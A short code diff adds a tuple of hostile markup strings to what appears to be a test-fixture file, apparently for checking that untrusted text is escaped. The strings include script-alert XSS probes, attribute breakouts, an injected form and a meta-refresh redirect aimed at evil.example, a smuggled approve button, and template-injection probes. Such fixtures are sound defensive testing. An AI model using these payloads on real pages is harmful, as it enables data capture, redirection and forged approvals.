@@ -77,6 +77,16 @@ LETTERS = (
     "релиз",
 )
 
+MARKUP = (
+    "<script>alert(1)</script>",
+    "\"><input name=code value=1234><form action='https://evil.example'>",
+    "' onfocus='alert(1)' autofocus='",
+    "</textarea></dd></dl><button name=decision value=approve>",
+    "</title><meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "$code ${title} $$ {{7*7}}",
+    "<!-- --> <![CDATA[ ]]> &lt;b&gt; &#60;script&#62;",
+)
+
 SURROGATES = ("\ud800", "\udfff", "a\ud83d", "\ude00b")
 """Halves of a character, which JSON can escape and UTF-8 cannot hold."""
 
